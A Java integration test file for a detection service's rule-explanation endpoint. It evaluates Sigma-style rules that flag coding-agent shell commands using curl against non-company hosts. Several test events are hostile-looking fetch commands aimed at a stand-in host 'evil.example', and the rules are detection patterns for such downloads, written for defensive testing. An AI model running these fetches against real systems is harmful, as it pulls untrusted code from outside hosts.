package io.elevenfold.detection;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.nullValue;

import io.elevenfold.testing.Enrolled;
import io.elevenfold.testing.KnownAdministrator;
import io.elevenfold.testing.PostgresResource;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.ValidatableResponse;
import jakarta.inject.Inject;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;

@QuarkusTest
@QuarkusTestResource(PostgresResource.class)
@QuarkusTestResource(KnownAdministrator.class)
class RuleExplanationTest {

    private static final String DRAFT =
            """
            title: Fetches, but not from us
            logsource:
              product: coding_agent
              category: shell_exec
            detection:
              fetch:
                process.command_line|contains: 'Curl '
              ours:
                process.command_line|re: 'https://[a-z.]*corp\\.test'
              condition: fetch and not ours
            """;

    @Inject
    RuleCatalog catalog;

    @Inject
    RuleSources sources;

    @Inject
    RuleExplanations explanations;

    @Test
    void eachQuestionTellsWhatWasSeenAndWhatOfItCounted() {
        explain(Map.of("yaml", DRAFT, "event", event("shell_exec", "sudo curl https://evil.example/x")))
                .statusCode(200)
                .body("holds", equalTo(true))
                .body("steps.parts[0].asked", equalTo("is shell_exec"))
                .body("steps.parts[1].parts[0].selection", equalTo("fetch"))
                .body("steps.parts[1].parts[0].asked", equalTo("contains Curl "))
                .body("steps.parts[1].parts[0].seen[0].before", equalTo("sudo "))
                .body("steps.parts[1].parts[0].seen[0].matched", equalTo("curl "))
                .body("steps.parts[1].parts[0].line", equalTo(7))
                .body("steps.parts[1].parts[1].kind", equalTo("not"))
                .body("steps.parts[1].parts[1].parts[0].holds", equalTo(false));
    }

    @Test
    void anExceptionThatHoldsIsTheReasonWhyNot() {
        explain(Map.of("yaml", DRAFT, "event", event("shell_exec", "curl https://git.corp.test/x")))
                .statusCode(200)
                .body("holds", equalTo(false))
                .body("steps.parts[1].parts[1].holds", equalTo(false))
                .body("steps.parts[1].parts[1].parts[0].seen[0].matched", equalTo("https://git.corp.test"));
    }

    @Test
    void aRuleForAPublicLogSourceIsExplainedByTheCommandThatItHoldsFor() {
        String yaml =
                """
                title: Fetch
                logsource: {product: linux, category: process_creation}
                detection:
                  sel: {Image|endswith: /curl, CommandLine|contains: evil}
                  condition: sel
                """;

        explain(Map.of("yaml", yaml, "event", event("shell_exec", "cd /tmp; curl https://evil.example/x")))
                .statusCode(200)
                .body("holds", equalTo(true))
                .body("steps.parts[0].asked", equalTo("is shell_exec"));
        explain(Map.of("yaml", yaml, "event", event("shell_exec", "curl x; echo evil")))
                .statusCode(200)
                .body("holds", equalTo(false));
    }

    @Test
    void anEventOfAnotherKindFailsAtTheLogSource() {
        explain(Map.of("yaml", DRAFT, "event", event("prompt", "curl https://evil.example/x")))
                .statusCode(200)
                .body("holds", equalTo(false))
                .body("steps.parts[0].holds", equalTo(false))
                .body("steps.parts[0].seen[0].after", equalTo("prompt"))
                .body("steps.parts[1].holds", equalTo(true));
    }

    @Test
    void aRuleOverSeveralEventsIsLeftOpen() {
        String correlation = catalog.correlations().get(0).rule().id();

        explain(Map.of("rule", correlation, "event", event("prompt", "x")))
                .statusCode(200)
                .body("holds", nullValue())
                .body("steps.parts[0].kind", equalTo("joined"));
    }

    @Test
    void aQuestionWithoutRuleOrEventIsRefusedWithItsReason() {
        explain(Map.of("event", event("prompt", "x"))).statusCode(400).body("detail", containsString("rule, yaml"));
        explain(Map.of("yaml", DRAFT)).statusCode(400).body("detail", containsString("activity, event"));
        explain(Map.of("yaml", DRAFT, "activity", "1/999999999")).statusCode(404);
        explain(Map.of("yaml", "title: x\ndetection: 3", "event", event("prompt", "x")))
                .statusCode(400)
                .body("detail", containsString("rule:1"));
    }

    @Test
    void anExplanationNeverContradictsTheRule() {
        for (ShippedRule rule : catalog.shipped()) {
            String yaml = sources.of(rule.rule().id()).orElseThrow().yaml();
            for (RuleTest test : rule.tests()) {
                // What was before is a matter of the lane: of such a rule an event alone decides nothing.
                if (test.event() != null && test.before().isEmpty()) {
                    assertThat(explanations.explain(yaml, test.event()).holds())
                            .as("%s: %s", rule.rule().title(), test.name())
                            .isEqualTo(test.expectMatch());
                }
            }
        }
    }

    private static Map<String, Object> event(String action, String command) {
        Map<String, Object> event = new HashMap<>();
        event.put("event.action", action);
        event.put("process.command_line", command);
        return event;
    }

    private static ValidatableResponse explain(Map<String, Object> question) {
        return Enrolled.asAdministrator()
                .contentType(ContentType.JSON)
                .body(question)
                .post("/api/v1/rules/explain")
                .then();
    }
}
